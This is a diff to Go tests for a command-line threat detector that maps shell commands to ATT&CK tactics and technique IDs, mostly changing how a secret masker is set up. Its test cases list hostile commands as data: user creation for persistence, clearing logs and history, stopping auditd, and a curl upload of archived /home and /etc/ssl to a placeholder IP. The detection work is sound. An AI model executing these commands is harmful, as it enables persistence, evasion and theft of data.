@@ -12,7 +12,7 @@ import (
 
 // best is the most telling meaning of a line.
 func best(line string, sh shell) meaning {
-	all := readCommand(line, sh, nil, new(masker))
+	all := readCommand(line, sh, nil, &masker{know: own})
 	var m meaning
 	for i := range all {
 		if i == 0 || weight(&all[i]) > weight(&m) {
@@ -74,8 +74,8 @@ func TestCommandMeaning(t *testing.T) {
 		{posix, "useradd -m -G sudo svc", "persistence", "T1136.001", tocsin.Low},
 		{cmdexe, `net user helper Passw0rd! /add`, "persistence", "T1136", tocsin.Medium},
 		{posix, "history -c", "stealth", "T1070.003", tocsin.Medium},
-		{cmdexe, `wevtutil cl Security`, "stealth", "T1070.001", tocsin.Medium},
-		{posix, "systemctl stop auditd", "defense-impairment", "T1562.001", tocsin.Medium},
+		{cmdexe, `wevtutil cl Security`, "defense-impairment", "T1685.005", tocsin.Medium},
+		{posix, "systemctl stop auditd", "defense-impairment", "T1685", tocsin.Medium},
 		{posix, "tar czf /tmp/h.tgz /home /etc/ssl", "collection", "T1560.001", tocsin.Low},
 		{posix, "curl -T /tmp/h.tgz http://203.0.113.9/u", "exfiltration", "T1567", tocsin.Medium},
 		{cmdexe, `vssadmin delete shadows /all /quiet`, "impact", "T1490", tocsin.High},
@@ -130,10 +130,10 @@ func TestCommandBounds(t *testing.T) {
 		nested = "sh -c " + "\"" + nested + "\""
 	}
 	for _, line := range []string{nested, strings.Repeat("a;", 50_000), strings.Repeat("$(", 10_000), strings.Repeat("'", 9999), strings.Repeat(`"\\`, 30_000), strings.Repeat("pscredential(", 5000), strings.Repeat("password: '", 5000), strings.Repeat("<<E\n", 9999), strings.Repeat("://a:b", 9999), strings.Repeat("a=[", 9999), strings.Repeat("sudo ", 20_000), "\x00\xff\xfe"} {
-		if n := len(readCommand(line, posix, nil, new(masker))); n > maxCommands {
+		if n := len(readCommand(line, posix, nil, &masker{know: own})); n > maxCommands {
 			t.Errorf("%d commands of %.20q", n, line)
 		}
-		if text, found := new(masker).line(line); len(text) > maxMasked+64 || len(found) > maxSecrets {
+		if text, found := (&masker{know: own}).line(line); len(text) > maxMasked+64 || len(found) > maxSecrets {
 			t.Errorf("%d bytes and %d secrets of %.20q", len(text), len(found), line)
 		}
 	}
@@ -144,7 +144,7 @@ func FuzzCommand(f *testing.F) {
 	f.Add(`cmd /c "net user x y /add & whoami"`, uint8(1))
 	f.Add("$a = 'b'+'c'; IEX $a | % { Get-Process }", uint8(2))
 	f.Fuzz(func(t *testing.T, line string, sh uint8) {
-		for _, m := range readCommand(line, shell(sh%4), nil, new(masker)) {
+		for _, m := range readCommand(line, shell(sh%4), nil, &masker{know: own}) {
 			if m.Tactic == "stdin" || m.Verb != "" && !slices.Contains(tocsin.Verbs[:], m.Verb) {
 				t.Errorf("%q: %+v", line, m)
 			}
@@ -157,7 +157,7 @@ func BenchmarkCommand(b *testing.B) {
 		b.Run(name, func(b *testing.B) {
 			b.ReportAllocs()
 			var out []meaning
-			mask := new(masker)
+			mask := &masker{know: own}
 			for range b.N {
 				if out = readCommand(line, posix, out[:0], mask); len(out) == 0 {
 					b.Fatal("no meaning")
@@ -168,6 +168,6 @@ func BenchmarkCommand(b *testing.B) {
 }
 
 func maskedLine(line string) string {
-	text, _ := new(masker).line(line)
+	text, _ := (&masker{know: own}).line(line)
 	return text
 }
